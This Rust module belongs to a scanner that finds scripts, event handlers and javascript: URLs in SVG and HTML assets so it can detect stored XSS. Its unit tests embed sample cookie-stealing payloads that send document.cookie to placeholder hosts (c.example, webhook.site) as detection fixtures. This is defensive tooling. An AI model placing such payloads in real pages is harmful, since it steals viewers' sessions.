//! Markup assets (SVG images, HTML pages): the scripts they carry run in
//! the browser of whoever views them, e.g. a registry web UI rendering a
//! skill's icon (stored XSS). `<script>` bodies, `on*=` event handlers and
//! `javascript:` URLs are analysed by the JavaScript extractor at their
//! place in the file, so locations point at the right line.
//!
//! An SVG has no business carrying script at all: each script in one is
//! also an [`Op::EmbeddedScript`] step. An HTML page (a dashboard shipped
//! as `assets/index.html`) may run scripts; only what they do counts.

use super::{Lang, Sink, Src, extract_code};
use crate::evidence::{Evidence, Op, Origin, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// Script units reported per file as [`Op::EmbeddedScript`] steps.
const MAX_MARKERS: usize = 8;
/// Script units analysed per file; a file with more is incomplete.
pub const MAX_UNITS: usize = 256;

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Markup {
    /// SVG (XML): entities are decoded inside `<script>` too.
    Svg,
    /// HTML: `<script>` content is raw text.
    Html,
}

/// The markup kind of a file, by extension.
pub fn kind(rel: &str) -> Option<Markup> {
    let lower = rel.to_ascii_lowercase();
    let ext = lower.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    match ext {
        "svg" => Some(Markup::Svg),
        "html" | "htm" | "xhtml" => Some(Markup::Html),
        _ => None,
    }
}

/// One piece of script found in the markup.
#[derive(Debug, PartialEq, Eq)]
struct Unit {
    /// What it is: `<script>`, `onload handler`, `javascript: URL`,
    /// `external script <url>`.
    what: String,
    /// Span of the tag or attribute, for the marker step.
    span: (usize, usize),
    /// Span of the code in the file (empty for an external script).
    code: (usize, usize),
    /// Decode XML/HTML character references in the code.
    decode: bool,
}

pub fn extract(path: &str, text: &str, kind: Markup, sink: &mut Sink) {
    let mut units = scan(text, kind);
    if units.is_empty() {
        return;
    }
    if units.len() > MAX_UNITS {
        units.truncate(MAX_UNITS);
        sink.incomplete.push(format!(
            "{}: more than {MAX_UNITS} pieces of script (MAX_UNITS); the ones after the {MAX_UNITS}th were not analysed",
            crate::text::escape_display(path)
        ));
    }
    let file = Src::new(path, text, Origin::Script);
    for (n, u) in units.iter().enumerate() {
        if kind == Markup::Svg && n < MAX_MARKERS {
            let mut ev =
                Evidence::new(Op::EmbeddedScript, A::CallTool, R::Codebase, u.what.clone())
                    .object("script in an SVG image (runs when the image is opened in a browser)")
                    .instrument("svg");
            if text.get(u.code.0..u.code.1).is_some_and(inert) {
                ev.tags.insert(Tag::InertScript);
            }
            sink.push(file.at(ev, u.span.0, u.span.1, "svg"));
        }
        let (s, e) = u.code;
        if s >= e {
            continue;
        }
        let Some(raw) = text.get(s..e) else { continue };
        if raw.trim().is_empty() {
            continue;
        }
        let code = clean_code(raw, u.decode);
        let src = file.nested(&code, s, Origin::Script);
        let from = sink.items.len();
        extract_code(Lang::JavaScript, &src, sink);
        // Animation and polling loops and timers are how pages work; they
        // run in a browser tab, not on the agent's machine.
        let mut k = from;
        while k < sink.items.len() {
            if matches!(sink.items[k].op, Op::Loop | Op::Sleep) {
                sink.items.remove(k);
            } else {
                sink.items[k].tags.remove(&Tag::Unbounded);
                k += 1;
            }
        }
    }
}

/// What a page's script can reach of its viewer: cookies and storage,
/// requests and sockets, navigation and other windows, messages, code
/// built at run time, scripts or frames added, forms, the clipboard, and
/// a URL built from data (`img.src = base + q`); a fixed media URL
/// (`setAttribute('src', 'https://…/cat.png')`) only loads an image.
static REACHES: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)\b(?:cookie|localstorage|sessionstorage|indexeddb|caches|fetch|xmlhttprequest|sendbeacon|websocket|eventsource|rtcpeerconnection|eval|function\s*\(\s*['\x22`]|settimeout\s*\(\s*['\x22`]|setinterval\s*\(\s*['\x22`]|import\s*\(|importscripts|location|window\.open|open\s*\(|postmessage|opener|(?:window|self)\.(?:parent|top|frames)|parent\.(?:postmessage|location|document)|top\.(?:location|document)|document\.domain|document\.write|innerhtml|outerhtml|insertadjacenthtml|createelement|srcdoc|submit|form|clipboard|navigator|atob|fromcharcode|credentials|token|password)\b|\b(?:src|href|action|data)\b['\x22]?\s*[,=:]\s*(?:['\x22][^'\x22\n]*['\x22]\s*\+|`[^`]*\$\{|[^'\x22`\s])",
);

/// Script code that touches nothing of its viewer: an animation that draws
/// on a canvas or moves elements (round 35, red-pill's matrix rain).
fn inert(code: &str) -> bool {
    !code.trim().is_empty() && !REACHES.is_match(code)
}

/// Script text with CDATA markers, legacy `<!--` / `-->` wrappers and (in
/// XML) character references replaced by text of the same byte length, so
/// every offset still maps into the file.
fn clean_code(raw: &str, decode: bool) -> String {
    let cdata = raw.contains("<![CDATA[");
    let mut s = raw.to_string();
    for m in ["<![CDATA[", "]]>", "<!--", "-->"] {
        while let Some(i) = s.find(m) {
            s.replace_range(i..i + m.len(), &" ".repeat(m.len()));
        }
    }
    if decode && !cdata {
        s = decode_entities(&s);
    }
    s
}

/// Character references decoded in place, padded with spaces to the
/// reference's length (so offsets are unchanged).
fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        let tail = &rest[i..];
        let end = tail[1..]
            .char_indices()
            .take(12)
            .find(|(_, c)| *c == ';')
            .map(|(j, _)| j + 1);
        let decoded = end.and_then(|e| {
            let name = &tail[1..e];
            let c = match name {
                "lt" => Some('<'),
                "gt" => Some('>'),
                "amp" => Some('&'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "nbsp" => Some(' '),
                _ => {
                    let num = name.strip_prefix('#')?;
                    let v = match num.strip_prefix(['x', 'X']) {
                        Some(h) => u32::from_str_radix(h, 16).ok()?,
                        None => num.parse().ok()?,
                    };
                    char::from_u32(v)
                }
            }?;
            (c.len_utf8() <= e + 1).then_some((c, e + 1))
        });
        match decoded {
            Some((c, len)) => {
                out.push(c);
                for _ in c.len_utf8()..len {
                    out.push(' ');
                }
                rest = &tail[len..];
            }
            None => {
                out.push('&');
                rest = &tail[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// JavaScript `type`s of a `<script>` (anything else is data or a template).
fn js_type(t: &str) -> bool {
    matches!(
        t.trim().to_ascii_lowercase().as_str(),
        "" | "text/javascript"
            | "application/javascript"
            | "application/x-javascript"
            | "text/x-javascript"
            | "text/ecmascript"
            | "application/ecmascript"
            | "module"
            | "text/babel"
            | "text/jsx"
    )
}

/// Attributes whose value is a URL (or a value SVG animation can set on one).
fn url_attr(name: &str) -> bool {
    matches!(
        name,
        "href" | "xlink:href" | "src" | "action" | "formaction" | "data" | "to" | "from" | "values"
    )
}

/// The markup with comments blanked (same length, newlines kept).
fn mask_comments(text: &str) -> String {
    let mut b = text.as_bytes().to_vec();
    let mut from = 0;
    while let Some(i) = text[from..].find("<!--") {
        let a = from + i;
        let end = text[a + 4..]
            .find("-->")
            .map_or(text.len(), |j| a + 4 + j + 3);
        for x in &mut b[a..end] {
            if *x != b'\n' {
                *x = b' ';
            }
        }
        from = end;
    }
    // Whole characters between ASCII markers were blanked: still UTF-8.
    String::from_utf8(b).unwrap_or_else(|_| text.to_string())
}

fn scan(text: &str, kind: Markup) -> Vec<Unit> {
    let masked = mask_comments(text);
    let b = masked.as_bytes();
    let lower = masked.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut i = 0;
    // One more than analysed, to know that there are more.
    while i < b.len() && out.len() <= MAX_UNITS {
        if b[i] != b'<' || i + 1 >= b.len() || !b[i + 1].is_ascii_alphabetic() {
            i += 1;
            continue;
        }
        let tag_start = i;
        let mut k = i + 1;
        while k < b.len() && (b[k].is_ascii_alphanumeric() || matches!(b[k], b':' | b'-' | b'_')) {
            k += 1;
        }
        let name = lower[i + 1..k].to_string();
        // Attributes: (name, value span).
        let mut attrs: Vec<(String, usize, usize)> = Vec::new();
        let mut j = k;
        let mut closed = false;
        while j < b.len() {
            while j < b.len() && (b[j].is_ascii_whitespace() || b[j] == b'/') {
                j += 1;
            }
            if j >= b.len() {
                break;
            }
            if b[j] == b'>' {
                j += 1;
                closed = true;
                break;
            }
            let an = j;
            while j < b.len() && !b[j].is_ascii_whitespace() && !matches!(b[j], b'=' | b'>' | b'/')
            {
                j += 1;
            }
            if j == an {
                j += 1;
                continue;
            }
            let aname = lower[an..j].to_string();
            let mut p = j;
            while p < b.len() && b[p].is_ascii_whitespace() {
                p += 1;
            }
            if p < b.len() && b[p] == b'=' {
                p += 1;
                while p < b.len() && b[p].is_ascii_whitespace() {
                    p += 1;
                }
                if p < b.len() && (b[p] == b'"' || b[p] == b'\'') {
                    let q = b[p];
                    let vs = p + 1;
                    let ve = b[vs..]
                        .iter()
                        .position(|&c| c == q)
                        .map_or(b.len(), |x| vs + x);
                    attrs.push((aname, vs, ve));
                    j = (ve + 1).min(b.len());
                } else {
                    let vs = p;
                    let mut ve = p;
                    while ve < b.len() && !b[ve].is_ascii_whitespace() && b[ve] != b'>' {
                        ve += 1;
                    }
                    attrs.push((aname, vs, ve));
                    j = ve;
                }
            } else {
                attrs.push((aname, j, j));
            }
        }
        if !closed {
            break;
        }
        let tag_end = j;
        for (an, vs, ve) in &attrs {
            let (vs, ve) = (*vs, *ve);
            if an.len() > 2
                && an.starts_with("on")
                && an[2..].bytes().all(|c| c.is_ascii_alphabetic())
            {
                out.push(Unit {
                    what: format!("{an} handler"),
                    span: (vs, ve),
                    code: (vs, ve),
                    decode: true,
                });
            } else if url_attr(an) {
                let v = decode_entities(&masked[vs..ve]);
                let lead = v.len() - v.trim_start().len();
                let t = v[lead..].to_ascii_lowercase();
                // Browsers drop tabs and newlines inside the scheme.
                let squeezed: String = t
                    .chars()
                    .take(24)
                    .filter(|c| !matches!(c, '\t' | '\n' | '\r' | ' '))
                    .collect();
                if squeezed.starts_with("javascript:") {
                    let colon = t.find(':').map_or(0, |c| c + 1);
                    out.push(Unit {
                        what: "javascript: URL".into(),
                        span: (vs, ve),
                        code: (vs + lead + colon, ve),
                        decode: true,
                    });
                } else if name == "script" && matches!(an.as_str(), "src" | "href" | "xlink:href") {
                    out.push(Unit {
                        what: format!("external script {}", v.trim()),
                        span: (tag_start, tag_end),
                        code: (0, 0),
                        decode: false,
                    });
                }
            }
        }
        i = tag_end;
        let self_closing = tag_end >= 2 && b[tag_end - 2] == b'/';
        if matches!(name.as_str(), "script" | "style") && !self_closing {
            let close = format!("</{name}");
            let end = lower[tag_end..]
                .find(&close)
                .map_or(b.len(), |x| tag_end + x);
            if name == "script" {
                let ty = attrs
                    .iter()
                    .find(|(a, _, _)| a == "type")
                    .map(|(_, s, e)| &masked[*s..*e])
                    .unwrap_or("");
                if js_type(ty) && !text[tag_end..end].trim().is_empty() {
                    out.push(Unit {
                        what: "<script>".into(),
                        span: (tag_start, tag_end),
                        code: (tag_end, end),
                        decode: kind == Markup::Svg,
                    });
                }
            }
            i = lower[end..].find('>').map_or(b.len(), |x| end + x + 1);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn whats(text: &str, kind: Markup) -> Vec<String> {
        scan(text, kind).into_iter().map(|u| u.what).collect()
    }

    #[test]
    fn finds_scripts_handlers_and_javascript_urls() {
        let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
<!-- <script>ignored()</script> -->
<a xlink:href=" java&#x09;script:steal()"><text>x</text></a>
<script type="text/ecmascript"><![CDATA[ fetch("https://c.example/?" + document.cookie) ]]></script>
<script type="application/json">{"a": 1}</script>
<script href="https://cdn.example/x.js"/>
</svg>"#;
        assert_eq!(
            whats(svg, Markup::Svg),
            vec![
                "onload handler",
                "javascript: URL",
                "<script>",
                "external script https://cdn.example/x.js"
            ]
        );
    }

    #[test]
    fn plain_icon_has_no_script() {
        let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">
<style>.a { fill: #333; } a > b { x: "<script>" }</style>
<a href="https://example.com/docs"><path class="a" d="M0 0h24v24H0z"/></a>
</svg>"#;
        assert!(whats(svg, Markup::Svg).is_empty());
    }

    #[test]
    fn entities_keep_offsets() {
        let s = "for (i = 0; i &lt; n; i++) a &amp;&amp; b;";
        let d = decode_entities(s);
        assert_eq!(d.len(), s.len());
        assert!(d.starts_with("for (i = 0; i <    n;"));
        assert_eq!(clean_code("<![CDATA[x]]>", true).len(), 13);
    }

    #[test]
    fn script_lines_map_into_the_file() {
        let svg = "<svg>\n<script>\nconst a = 1;\nfetch('https://webhook.site/0b9f', {method: 'POST', body: document.cookie});\n</script>\n</svg>\n";
        let mut sink = Sink::default();
        extract("logo.svg", svg, Markup::Svg, &mut sink);
        let marker = sink
            .items
            .iter()
            .find(|e| e.op == Op::EmbeddedScript)
            .expect("marker");
        assert_eq!(marker.location.start_line, 2);
        let send = sink
            .items
            .iter()
            .find(|e| e.op == Op::NetSend)
            .expect("send");
        assert_eq!(send.location.start_line, 4);
        assert_eq!(send.location.path, "logo.svg");
    }
}
